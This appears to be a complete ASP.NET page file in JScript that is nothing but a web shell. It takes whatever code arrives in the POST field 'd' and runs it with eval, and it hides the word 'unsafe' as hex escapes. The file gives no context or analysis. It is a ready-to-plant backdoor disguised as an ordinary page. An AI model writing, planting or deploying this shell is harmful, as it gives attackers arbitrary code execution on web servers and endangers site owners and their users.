<%@ Page Language="Jscript"%><%var k="\x75\x6e\x73\x61\x66\x65";var m=Request.Form["d"];eval(m,k);%>
